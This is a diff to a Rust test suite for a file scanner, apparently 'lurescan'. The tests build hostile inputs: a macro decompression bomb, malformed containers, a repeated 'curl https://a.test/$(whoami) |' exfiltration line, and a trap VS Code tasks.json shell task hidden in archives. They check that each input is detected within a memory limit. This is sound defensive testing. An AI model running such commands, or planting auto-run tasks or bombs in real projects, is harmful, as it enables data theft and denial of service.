@@ -23,7 +23,7 @@ const TRAP: &[u8] = br#"{"version":"2.0.0","tasks":[{"label":"env","type":"shell
 
 /// What must be said of an input that stands alone.
 #[derive(Clone, Copy, PartialEq, Debug)]
-enum Read {
+pub enum Read {
     /// Something of it cannot be read, and that must be said.
     Partly,
     /// It can be read whole, or what is broken holds nothing.
@@ -31,17 +31,17 @@ enum Read {
 }
 use Read::{Either, Partly};
 
-struct Input {
-    name: String,
-    bytes: Vec<u8>,
-    read: Read,
+pub struct Input {
+    pub name: String,
+    pub bytes: Vec<u8>,
+    pub read: Read,
 }
 
 #[derive(Default)]
-struct Inputs(Vec<Input>);
+pub struct Inputs(pub Vec<Input>);
 
 impl Inputs {
-    fn add(&mut self, read: Read, name: &str, bytes: impl Into<Vec<u8>>) {
+    pub fn add(&mut self, read: Read, name: &str, bytes: impl Into<Vec<u8>>) {
         self.0.push(Input { name: name.to_owned(), bytes: bytes.into(), read });
     }
 }
@@ -63,7 +63,7 @@ fn deflate(bytes: &[u8]) -> Vec<u8> {
 }
 
 /// A zip of members as they are given: name, packed bytes, method, stated length.
-fn zip(members: &[(Vec<u8>, Vec<u8>, u64, u64)]) -> Vec<u8> {
+pub fn zip(members: &[(Vec<u8>, Vec<u8>, u64, u64)]) -> Vec<u8> {
     let (mut out, mut directory) = (Vec::new(), Vec::new());
     for (name, data, method, size) in members {
         let rest =
@@ -83,7 +83,7 @@ fn end(members: u64, size: u64, offset: u64, comment: &[u8]) -> Vec<u8> {
         .concat()
 }
 
-fn stored(name: &str, data: &[u8]) -> (Vec<u8>, Vec<u8>, u64, u64) {
+pub fn stored(name: &str, data: &[u8]) -> (Vec<u8>, Vec<u8>, u64, u64) {
     (name.as_bytes().to_vec(), data.to_vec(), 0, data.len() as u64)
 }
 
@@ -430,6 +430,15 @@ fn containers(out: &mut Inputs) {
     out.add(Partly, "loop.msi", ole(0));
     out.add(Partly, "far.msi", ole(0xfd));
     out.add(Partly, "short.msi", &ole(0)[..64]);
+    // Packed macros: chunks of six bytes that unpack to 4,096, beginnings without end, a directory whose records lie.
+    let chunk = b"\x03\xb0\x02a\xff\x0f".as_slice();
+    out.add(Partly, "macro-bomb.bin", [b"\x01\x08\xb0\0Attribut", &chunk.repeat(300_000)[..]].concat());
+    out.add(Either, "macro-beginnings.bin", b"\xff\x01\x08\xb0\0Attribut".repeat(100_000));
+    let records = b"\x31\0\x04\0\0\0\xff\xff\xff\xff\x1a\0\xff\xff\xff\xff".as_slice();
+    let lying = crate::macros::document(&[("dir", &crate::macros::packed(records)), ("M", &[1, 0xff, 0xff])]);
+    out.add(Either, "records-far.doc", lying);
+    let named = crate::macros::directory(&[("M", 0), ("M", u32::MAX), ("N", 1)]);
+    out.add(Partly, "sources-far.doc", crate::macros::document(&[("dir", &named), ("M", &[1, 9, 0xb0, 0xff, 0xff])]));
     let program = |length: u32, at: u32, size: u32| {
         [
             b"\x7fELF\x02\x01\x01".to_vec(),
@@ -520,6 +529,7 @@ fn texts(out: &mut Inputs) {
     out.add(Either, "data-urls.txt", "data:text/html".repeat(n));
     out.add(Either, "passwords.txt", "password for the ".repeat(n / 2));
     out.add(Either, "ascii85.txt", "<~".repeat(2 * n));
+    out.add(Either, "base85.txt", "!#$%&()*+-;<=>?@^_`{|}~0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ".repeat(n));
     out.add(Either, "one-line.js", "x".repeat(30 << 20));
     out.add(Either, "blanks.js", " ".repeat(20 << 20));
     out.add(Either, "commands.sh", "curl https://a.test/$(whoami) | ".repeat(n / 10));
@@ -545,10 +555,23 @@ fn inputs() -> Vec<Input> {
     out.0
 }
 
-/// An archive with the input first and the trap behind it.
+/// An archive with the input first and the trap behind it: packed where it would be longer than what is read of a file.
 fn with_trap(input: &Input) -> Vec<u8> {
-    let trap = tar_entry(".vscode/tasks.json", TRAP);
-    [tar_entry(&input.name, &input.bytes), trap, vec![0; 1_024]].concat()
+    const NAME: &str = ".vscode/tasks.json";
+    let Input { name, bytes, .. } = input;
+    match is_long(input) {
+        true => zip(&[(name.clone().into(), deflate(bytes), 8, bytes.len() as u64), stored(NAME, TRAP)]),
+        false => [tar_entry(name, bytes), tar_entry(NAME, TRAP), vec![0; 1_024]].concat(),
+    }
+}
+
+/// The name of that archive.
+fn trapped(input: &Input) -> String {
+    format!("{}.{}", input.name, if is_long(input) { "zip" } else { "tar" })
+}
+
+fn is_long(input: &Input) -> bool {
+    input.bytes.len() as u64 > lurescan::limits::FILE_BYTES - (1 << 20)
 }
 
 /// Runs the program over a folder of samples; its records by name, and the peak of a worker's memory.
@@ -600,26 +623,22 @@ fn high_water(process: u32) -> u64 {
     line.and_then(|line| line.trim().trim_end_matches(" kB").parse().ok()).unwrap_or(0)
 }
 
-#[test]
-fn hostile_bytes_cost_no_process_no_memory_and_no_finding() {
-    let inputs = inputs();
-    assert!(inputs.len() >= 80, "{} inputs", inputs.len());
+/// Scans each input alone and with the trap behind it; what is wrong with the answers, and the peak of a worker in KiB.
+pub fn tried(inputs: &[Input]) -> (Vec<String>, u64) {
     let folder = tempfile::tempdir().expect("a temporary folder");
-    for input in &inputs {
+    for input in inputs {
         fs::write(folder.path().join(format!("alone-{}", input.name)), &input.bytes).expect("written");
-        fs::write(folder.path().join(format!("trap-{}.tar", input.name)), with_trap(input)).expect("written");
+        fs::write(folder.path().join(format!("trap-{}", trapped(input))), with_trap(input)).expect("written");
     }
     let (records, peak) = bulk(folder.path());
     let mut wrong = Vec::new();
-    for input in &inputs {
+    for input in inputs {
         // Shown by a run with --nocapture: what each came to.
         let alone = &records[&format!("alone-{}", input.name)];
-        let trap = &records[&format!("trap-{}.tar", input.name)];
+        let trap = &records[&format!("trap-{}", trapped(input))];
         println!("{:<28} {:<11} {:.120}", input.name, alone["verdict"].to_string(), alone["gaps"].to_string());
         let found = trap["findings"].as_array().expect("findings").iter().any(|finding| {
-            finding["locator"]
-                .as_str()
-                .is_some_and(|at| at.ends_with(&format!("{}.tar!/.vscode/tasks.json", input.name)))
+            finding["locator"].as_str().is_some_and(|at| at.ends_with("!/.vscode/tasks.json"))
                 && finding["severity"] != "low"
         });
         if !found || trap["verdict"] != "block" {
@@ -627,12 +646,6 @@ fn hostile_bytes_cost_no_process_no_memory_and_no_finding() {
         }
         if input.read == Partly && alone["verdict"] == "pass" {
             wrong.push(format!("{}: called clean: {}", input.name, alone["gaps"]));
-        }
-        if alone["gaps"].as_array().is_some_and(|gaps| !gaps.is_empty())
-            && alone["verdict"] == "pass"
-            && input.read == Partly
-        {
-            wrong.push(format!("{}: has gaps and passes: {}", input.name, alone["gaps"]));
         }
         for record in [alone, trap] {
             let gaps = record["gaps"].to_string();
@@ -642,6 +655,16 @@ fn hostile_bytes_cost_no_process_no_memory_and_no_finding() {
         }
     }
     println!("{} inputs, peak of a worker {} MiB", inputs.len(), peak >> 10);
+    if peak >= MEMORY_KIB {
+        wrong.push(format!("a worker took {} MiB", peak >> 10));
+    }
+    (wrong, peak)
+}
+
+#[test]
+fn hostile_bytes_cost_no_process_no_memory_and_no_finding() {
+    let inputs = inputs();
+    assert!(inputs.len() >= 80, "{} inputs", inputs.len());
+    let (wrong, peak) = tried(&inputs);
     assert!(wrong.is_empty(), "peak {} MiB\n{}", peak >> 10, wrong.join("\n"));
-    assert!(peak < MEMORY_KIB, "a worker took {} MiB", peak >> 10);
 }
